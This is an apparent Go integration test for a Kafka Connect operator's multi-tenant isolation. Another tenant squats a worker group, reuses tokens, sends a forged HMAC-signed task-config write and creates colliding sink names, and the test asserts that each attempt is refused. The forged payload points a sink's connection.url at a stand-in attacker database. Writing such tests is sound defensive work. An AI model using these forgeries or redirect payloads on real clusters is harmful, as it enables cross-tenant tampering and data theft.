/*
Copyright 2026 The Conveyor Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package adversarial

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/conveyor-dev/conveyor/api/v1alpha1"
	"github.com/conveyor-dev/conveyor/test/testkit"
)

// tenantNamespace creates a namespace for one tenant of the test.
func tenantNamespace(t *testing.T, name string) {
	t.Helper()
	_, err := cluster.Client.CoreV1().Namespaces().Create(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
	if err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatalf("creating namespace %s: %v", name, err)
	}
}

// tenantCluster is a ConnectCluster of one worker on the local Kafka, named
// by bootstrap (any spelling of it) and, when groupID is set, claiming that
// worker group.
func tenantCluster(ns, name, bootstrap, groupID string) *v1alpha1.ConnectCluster {
	one := int32(1)
	cc := &v1alpha1.ConnectCluster{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: v1alpha1.ConnectClusterSpec{
			Replicas: &one,
			Kafka:    v1alpha1.KafkaConnection{BootstrapServers: bootstrap},
			Storage:  v1alpha1.StorageSpec{ReplicationFactor: &one},
			Config: map[string]string{
				"key.converter": "org.apache.kafka.connect.storage.StringConverter", "value.converter": "org.apache.kafka.connect.storage.StringConverter",
				"offset.flush.interval.ms": "1000",
			},
		},
	}
	if groupID != "" {
		cc.Spec.GroupID = &groupID
	}
	return cc
}

func tenantCreate(t *testing.T, o client.Object) {
	t.Helper()
	if err := cv.Client.Create(t.Context(), o); err != nil {
		t.Fatalf("creating %T %s/%s: %v", o, o.GetNamespace(), o.GetName(), err)
	}
}

// tenantConnector is a KafkaConnector; a sink when config has topics.
func tenantConnector(ns, name, cluster, class string, config map[string]string) *v1alpha1.KafkaConnector {
	one := int32(1)
	return &v1alpha1.KafkaConnector{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec:       v1alpha1.KafkaConnectorSpec{ClusterRef: v1alpha1.ClusterReference{Name: cluster}, Class: class, TasksMax: &one, Config: config},
	}
}

// tenantTopics creates topics of one partition on the local Kafka.
func tenantTopics(t *testing.T, names ...string) {
	t.Helper()
	cl, err := kgo.NewClient(kgo.SeedBrokers(cluster.KafkaAddr))
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	res, err := kadm.NewClient(cl).CreateTopics(t.Context(), 1, 1, nil, names...)
	if err != nil {
		t.Fatalf("creating topics %v: %v", names, err)
	}
	for _, r := range res {
		if r.Err != nil && !errors.Is(r.Err, kerr.TopicAlreadyExists) {
			t.Fatalf("creating topic %s: %v", r.Topic, r.Err)
		}
	}
}

// pgSinkConfig writes topic into PostgreSQL (the tier's real server).
func pgSinkConfig(topic string) map[string]string {
	return map[string]string{"topics": topic, "connection.url": pg.URL("postgres"), "auto.create": "true", "table.name.format": "adv_" + strings.ReplaceAll(topic, "-", "_")}
}

// connectorCondition waits until the KafkaConnector's Ready condition has
// status and reason, and returns its message.
func connectorCondition(t *testing.T, ns, name string, status metav1.ConditionStatus, reason string, timeout time.Duration) string {
	t.Helper()
	var msg string
	err := testkit.Until(t.Context(), timeout, fmt.Sprintf("KafkaConnector %s/%s Ready=%s %s", ns, name, status, reason), func(ctx context.Context) (bool, error) {
		var kc v1alpha1.KafkaConnector
		if err := cv.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, &kc); err != nil {
			return false, err
		}
		c := meta.FindStatusCondition(kc.Status.Conditions, "Ready")
		if c == nil {
			return false, fmt.Errorf("no Ready condition")
		}
		msg = c.Message
		if c.Status != status || c.Reason != reason {
			return false, fmt.Errorf("Ready=%s %s: %s", c.Status, c.Reason, c.Message)
		}
		return true, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return msg
}

// workerREST sends a request to a worker pod's REST API.
func workerREST(t *testing.T, method, podIP, path, token string, body []byte, header http.Header) (int, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, fmt.Sprintf("http://%s:%d%s", podIP, v1alpha1.RestPort, path), bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		req.Header[k] = v
	}
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := cluster.HTTPClient().Do(req)
	if err != nil {
		t.Fatalf("%s %s on %s: %v", method, path, podIP, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, string(b)
}

// TestGroupIdentityAcrossNamespaces: team-a runs a ConnectCluster with two
// sinks. Team-b, in its own namespace, names the same Kafka another way
// (localhost instead of 127.0.0.1) and claims team-a's worker group: its
// cluster runs no workers. Team-b's own token opens nothing on team-a's
// workers, and a write dressed as a forwarded one (forward=false, the
// internal task-config endpoint) is refused even with team-a's token unless
// a member signed it. A team-b sink named like a team-a sink (same
// consumer group connect-<name>) is refused, and so is a team-b source
// turned into such a sink later.
func TestGroupIdentityAcrossNamespaces(t *testing.T) {
	ctx := t.Context()
	host, port, err := net.SplitHostPort(cluster.KafkaAddr)
	if err != nil {
		t.Fatal(err)
	}
	if host != "127.0.0.1" {
		t.Skipf("the local Kafka is on %s; the test spells it as localhost vs 127.0.0.1", host)
	}
	other := net.JoinHostPort("localhost", port)
	const nsA, nsB = "gi-team-a", "gi-team-b"
	tenantNamespace(t, nsA)
	tenantNamespace(t, nsB)

	tenantCreate(t, tenantCluster(nsA, "connect", cluster.KafkaAddr, ""))
	podsA, err := cv.WaitWorkersReady(ctx, nsA, "connect", 1, 3*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	// A sink's task count follows its topics' partitions: the topics exist first.
	tenantTopics(t, "gi-orders", "gi-ledger", "gi-orders-b")
	tenantCreate(t, tenantConnector(nsA, "orders", "connect", "PostgresSink", pgSinkConfig("gi-orders")))
	tenantCreate(t, tenantConnector(nsA, "ledger", "connect", "PostgresSink", pgSinkConfig("gi-ledger")))
	if _, err := cv.WaitConnectorsRunning(ctx, nsA, 2*time.Minute, "orders", "ledger"); err != nil {
		t.Fatal(err)
	}
	var ccA v1alpha1.ConnectCluster
	if err := cv.Client.Get(ctx, client.ObjectKey{Namespace: nsA, Name: "connect"}, &ccA); err != nil {
		t.Fatal(err)
	}
	if ccA.Status.KafkaClusterID == "" {
		t.Fatalf("team-a's cluster has no status.kafkaClusterId")
	}
	tokenA, err := cv.RestToken(ctx, &ccA)
	if err != nil {
		t.Fatal(err)
	}

	// 1. Another spelling of the same Kafka, team-a's group: refused.
	tenantCreate(t, tenantCluster(nsB, "squat", other, ccA.Status.GroupID))
	var squat v1alpha1.ConnectCluster
	err = testkit.Until(ctx, 2*time.Minute, "team-b's squatting cluster to be refused", func(ctx context.Context) (bool, error) {
		if err := cv.Client.Get(ctx, client.ObjectKey{Namespace: nsB, Name: "squat"}, &squat); err != nil {
			return false, err
		}
		c := meta.FindStatusCondition(squat.Status.Conditions, v1alpha1.ConnectClusterGroupConflict)
		if c == nil || c.Status != metav1.ConditionTrue {
			return false, fmt.Errorf("GroupConflict %+v, kafkaClusterId %q", c, squat.Status.KafkaClusterID)
		}
		return true, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	c := meta.FindStatusCondition(squat.Status.Conditions, v1alpha1.ConnectClusterGroupConflict)
	if !strings.Contains(c.Message, nsA+"/connect") {
		t.Errorf("GroupConflict message does not name the cluster that owns the group: %s", c.Message)
	}
	if squat.Status.KafkaClusterID != ccA.Status.KafkaClusterID {
		t.Errorf("kafkaClusterId %q for %s, %q for %s: one Kafka", squat.Status.KafkaClusterID, other, ccA.Status.KafkaClusterID, cluster.KafkaAddr)
	}
	// It never gets a worker: held for a while.
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		pods, _, _ := cv.WorkerPods(ctx, nsB, "squat")
		if len(pods) > 0 {
			t.Fatalf("the squatting cluster runs worker pod %s", pods[0].Name)
		}
		deps, err := cluster.Client.AppsV1().Deployments(nsB).List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if len(deps.Items) > 0 {
			t.Fatalf("the squatting cluster has a Deployment %s", deps.Items[0].Name)
		}
		time.Sleep(time.Second)
	}
	t.Logf("squatting cluster refused: %s", c.Message)

	// 2. Team-b's own cluster (its own group) and token: team-a's workers
	// give it nothing.
	tenantCreate(t, tenantCluster(nsB, "own", other, ""))
	podsB, err := cv.WaitWorkersReady(ctx, nsB, "own", 1, 3*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	var ccB v1alpha1.ConnectCluster
	if err := cv.Client.Get(ctx, client.ObjectKey{Namespace: nsB, Name: "own"}, &ccB); err != nil {
		t.Fatal(err)
	}
	tokenB, err := cv.RestToken(ctx, &ccB)
	if err != nil {
		t.Fatal(err)
	}
	ipA := podsA[0].Status.PodIP
	for _, r := range []struct{ method, path string }{{"GET", "/connectors"}, {"GET", "/connectors/orders/config"}, {"DELETE", "/connectors/orders"}} {
		if code, body := workerREST(t, r.method, ipA, r.path, tokenB, nil, nil); code != http.StatusUnauthorized {
			t.Errorf("%s %s on team-a's worker with team-b's token: %d %s, want 401", r.method, r.path, code, body)
		}
	}

	// 3. Forged worker-to-worker requests, even with team-a's REST token.
	tasks := []byte(`[{"connector.class":"PostgresSink","topics":"gi-orders","connection.url":"postgres://attacker@evil/db"}]`)
	forgedKey := []byte("team-b-does-not-know-the-session-key")
	at := strconv.FormatInt(time.Now().UnixMilli(), 10)
	m := hmac.New(sha256.New, forgedKey)
	m.Write([]byte("PUT\n/connectors/orders/tasks\nforward=false\n" + at + "\n"))
	m.Write(tasks)
	forged := http.Header{"X-Connect-Authorization": {base64.StdEncoding.EncodeToString(m.Sum(nil))},
		"X-Connect-Request-Signature-Algorithm": {"HmacSHA256"}, "X-Conveyor-Signed-At": {at}}
	for _, h := range []http.Header{nil, forged} {
		if code, body := workerREST(t, "PUT", ipA, "/connectors/orders/tasks?forward=false", tokenA, tasks, h); code != http.StatusForbidden {
			t.Errorf("forged task configs (signature %v): %d %s, want 403", h != nil, code, body)
		}
	}
	if code, body := workerREST(t, "DELETE", ipA, "/connectors/ledger?forward=false", tokenA, nil, nil); code != http.StatusForbidden {
		t.Errorf("unsigned DELETE marked forwarded: %d %s, want 403", code, body)
	}
	code, body := workerREST(t, "GET", ipA, "/connectors/orders/tasks", tokenA, nil, nil)
	if code != http.StatusOK || strings.Contains(body, "evil") {
		t.Errorf("team-a's task configs after the forged writes: %d %s", code, body)
	}
	if _, err := cv.WaitConnectorsRunning(ctx, nsA, time.Minute, "orders", "ledger"); err != nil {
		t.Fatal(err)
	}

	// 4. A team-b sink on team-a's consumer group connect-orders: refused.
	tenantCreate(t, tenantConnector(nsB, "orders", "own", "PostgresSink", pgSinkConfig("gi-orders-b")))
	msg := connectorCondition(t, nsB, "orders", metav1.ConditionFalse, v1alpha1.ReasonSinkGroupConflict, 2*time.Minute)
	if !strings.Contains(msg, nsA+"/orders") {
		t.Errorf("SinkGroupConflict message does not name team-a's sink: %s", msg)
	}
	ipB := podsB[0].Status.PodIP
	if code, body := workerREST(t, "GET", ipB, "/connectors/orders", tokenB, nil, nil); code != http.StatusNotFound {
		t.Errorf("the refused sink exists on team-b's worker: %d %s", code, body)
	}

	// 5. A team-b source named like team-a's other sink, then turned into
	// that sink: the change is refused and the worker keeps the source.
	src := tenantConnector(nsB, "ledger", "own", "RangeSource", map[string]string{"topic": "gi-ledger-b", "count": "100", "rate": "10"})
	tenantCreate(t, src)
	if _, err := cv.WaitConnectorsRunning(ctx, nsB, 2*time.Minute, "ledger"); err != nil {
		t.Fatal(err)
	}
	if err := cv.Client.Get(ctx, client.ObjectKeyFromObject(src), src); err != nil {
		t.Fatal(err)
	}
	src.Spec.Class = "PostgresSink"
	src.Spec.Config = pgSinkConfig("gi-ledger")
	if err := cv.Client.Update(ctx, src); err != nil {
		t.Fatalf("turning team-b's source into a sink: %v", err)
	}
	msg = connectorCondition(t, nsB, "ledger", metav1.ConditionFalse, v1alpha1.ReasonSinkGroupConflict, 2*time.Minute)
	if !strings.Contains(msg, nsA+"/ledger") {
		t.Errorf("SinkGroupConflict message does not name team-a's sink: %s", msg)
	}
	code, body = workerREST(t, "GET", ipB, "/connectors/ledger/config", tokenB, nil, nil)
	if code != http.StatusOK || strings.Contains(body, "topics") || !strings.Contains(body, "RangeSource") {
		t.Errorf("team-b's worker took the sink config: %d %s", code, body)
	}
}
